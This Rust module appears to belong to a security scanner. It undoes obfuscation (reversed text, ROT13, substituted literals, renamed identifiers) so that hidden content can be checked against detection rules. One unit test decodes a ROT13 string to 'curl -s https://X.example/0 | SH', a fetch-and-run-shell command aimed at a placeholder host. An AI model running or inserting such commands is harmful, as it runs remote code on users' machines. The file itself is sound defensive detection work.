//! What a keyword that brings no rule tells of: that what stands around it is read another way as well.

use super::{
    command::LINE_BEFORE,
    renamed, searched,
    spelt::{self, Replaced},
    wild,
};
use crate::flow::detect::patch::Patch;
use posture::Direction;
use std::ops::Range;

/// How much of a text around words written backwards is turned round at once, and how often.
const MAX_BACKWARDS: usize = 4 << 10;
const MAX_STRETCHES: usize = 16;
/// What is put in place of something in one text, at most.
const MAX_REPLACED: usize = 256;
/// Names given to something that are looked for in one text.
const MAX_NAMES: usize = 16;
/// How much is shown on each side of that.
const CONTEXT: usize = 1536;

/// What tells of letters that are turned by half the alphabet.
const TURNED: &[&str] = &["n-za-m", "rot13", "rot_13", "rot-13", "nopqrstuvwxyzabcdefghijklm"];

/// The keywords that tell of another reading, besides those that stand backwards. None is a rule's.
pub(super) fn keywords(direction: Direction) -> impl Iterator<Item = &'static str> {
    let own = if direction == Direction::Inbound { wild::CLUES } else { searched::CLUES };
    own.iter().chain(spelt::CLUES).chain(renamed::CLUES).chain(TURNED).copied()
}

/// What one look at a text told of.
#[derive(Default)]
pub(super) struct Clues {
    backwards: Stretches,
    turned: Stretches,
    replaced: Vec<Replaced>,
    /// The text before that was looked at for what is replaced.
    looked: usize,
    names: usize,
    renamed: Vec<Replaced>,
}

impl Clues {
    /// A keyword stands there that brings no rule.
    pub(super) fn note(&mut self, text: &[u8], keyword: &Range<usize>) {
        let word = &text[keyword.clone()];
        let is = |clues: &[&str]| clues.iter().any(|clue| word.eq_ignore_ascii_case(clue.as_bytes()));
        if is(wild::CLUES) {
            self.replace(keyword, || (wild::program(text, keyword.start), keyword.end));
        } else if is(spelt::CLUES) {
            self.replace(keyword, || spelt::literal(text, keyword));
        } else if is(searched::CLUES) {
            self.replace(keyword, || (searched::path(text, keyword), keyword.end));
        } else if is(renamed::CLUES) {
            if self.names < MAX_NAMES {
                self.names += 1;
                self.renamed.extend(renamed::uses(text, keyword));
            }
        } else if is(TURNED) {
            self.turned.note_around(text, keyword);
        } else {
            self.backwards.note(text, keyword);
        }
    }

    /// Notes what is put in the place of what is written around `keyword`: that, and how far it was looked at. Nothing is
    /// looked at twice.
    fn replace(&mut self, keyword: &Range<usize>, read: impl FnOnce() -> (Option<Replaced>, usize)) {
        if keyword.start < self.looked || self.replaced.len() == MAX_REPLACED {
            return;
        }
        let done = self.replaced.last().map_or(0, |(span, _)| span.end);
        let (replaced, looked) = read();
        self.looked = looked;
        self.replaced.extend(replaced.filter(|(span, _)| span.start >= done));
    }

    /// Shows each of the other readings.
    pub(super) fn readings(self, text: &[u8], mut on: impl FnMut(&[u8])) {
        for stretch in self.backwards.stretches {
            let turned: Vec<u8> = text[stretch].iter().rev().copied().collect();
            on(&turned);
        }
        for stretch in self.turned.stretches {
            let turned: Vec<u8> = text[stretch].iter().copied().map(turned).collect();
            on(&turned);
        }
        // Where two names are used in one place, the one that was given first is taken.
        let mut renamed = self.renamed;
        renamed.sort_by_key(|(span, _)| span.start);
        for replaced in [self.replaced, renamed] {
            put(text, replaced, &mut on);
        }
    }
}

/// Shows `text` with what is put in the places of others, as far around these as it matters.
fn put(text: &[u8], replaced: Vec<Replaced>, on: impl FnMut(&[u8])) {
    if replaced.is_empty() {
        return;
    }
    let mut patch = Patch::new(text, CONTEXT, Vec::new(), on);
    let mut done = 0;
    for (span, plain) in replaced {
        if span.start >= done {
            done = span.end;
            patch.replace(span.start, span.end, &plain);
        }
    }
    patch.finish();
}

/// Lines in which something stands.
#[derive(Default)]
struct Stretches {
    stretches: Vec<Range<usize>>,
}

impl Stretches {
    /// The line in which `keyword` stands.
    fn note(&mut self, text: &[u8], keyword: &Range<usize>) {
        let floor = keyword.start.saturating_sub(LINE_BEFORE);
        let cap = text.len().min(keyword.end + LINE_BEFORE);
        let start = memchr::memrchr(b'\n', &text[floor..keyword.start]).map_or(floor, |n| floor + n + 1);
        let end = memchr::memchr(b'\n', &text[keyword.end..cap]).map_or(cap, |n| keyword.end + n);
        self.add(start..end);
    }

    /// The lines around it too: what is turned is often written before.
    fn note_around(&mut self, text: &[u8], keyword: &Range<usize>) {
        let floor = keyword.start.saturating_sub(LINE_BEFORE);
        let cap = text.len().min(keyword.end + LINE_BEFORE);
        // A line that is cut is left out.
        let begins = || memchr::memchr(b'\n', &text[floor..keyword.start]).map(|n| floor + n + 1);
        let ends = || memchr::memrchr(b'\n', &text[keyword.end..cap]).map(|n| keyword.end + n);
        let start = if floor == 0 { None } else { begins() };
        let end = if cap == text.len() { None } else { ends() };
        self.add(start.unwrap_or(floor)..end.unwrap_or(cap));
    }

    fn add(&mut self, lines: Range<usize>) {
        // The lines between, such as a key's, belong to both.
        let full = self.stretches.len() == MAX_STRETCHES;
        match self.stretches.last_mut() {
            Some(last) if lines.end <= last.start + MAX_BACKWARDS => last.end = lines.end.max(last.end),
            _ if !full => self.stretches.push(lines),
            _ => {}
        }
    }
}

/// A letter half the alphabet on, and what is none as it is.
fn turned(b: u8) -> u8 {
    match b.to_ascii_lowercase() {
        b'a'..=b'm' => b + 13,
        b'n'..=b'z' => b - 13,
        _ => b,
    }
}

#[cfg(test)]
mod tests {
    use super::{LINE_BEFORE, MAX_BACKWARDS, Stretches, keywords, turned};
    use crate::flow::detect::rule::{Rule, RuleSet};
    use posture::Direction;

    #[test]
    fn letters_are_turned_and_turned_back() {
        let text = b"phey -f uggcf://K.rknzcyr/0 | FU";
        let plain: Vec<u8> = text.iter().copied().map(turned).collect();
        assert_eq!(plain, b"curl -s https://X.example/0 | SH");
        assert!((0..=u8::MAX).all(|b| turned(turned(b)) == b));
    }

    #[test]
    fn whole_lines_around_a_keyword_are_looked_at() {
        let line = "words of no use\n";
        let text = [line.repeat(300), "x rot13 y\n".to_owned(), line.repeat(300)].concat();
        let at = text.find("rot13").unwrap();
        let mut stretches = Stretches::default();
        stretches.note_around(text.as_bytes(), &(at..at + 5));
        let stretch = &text[stretches.stretches[0].clone()];
        assert!(stretch.starts_with("words") && stretch.ends_with("use") && stretch.len() <= 2 * LINE_BEFORE + 5);
        stretches.note_around(text.as_bytes(), &(at..at + 5));
        assert_eq!(stretches.stretches.len(), 1);
        assert!(stretches.stretches[0].len() <= MAX_BACKWARDS);
    }

    #[test]
    fn no_clue_is_a_rule_s_keyword() {
        let rules = RuleSet::embedded();
        for direction in [Direction::Outbound, Direction::Inbound] {
            let of_rules =
                || rules.rules().iter().filter(|r| r.family().direction() == direction).flat_map(Rule::keywords);
            for clue in keywords(direction) {
                assert!(of_rules().all(|keyword| keyword != clue), "{clue}");
            }
        }
    }
}
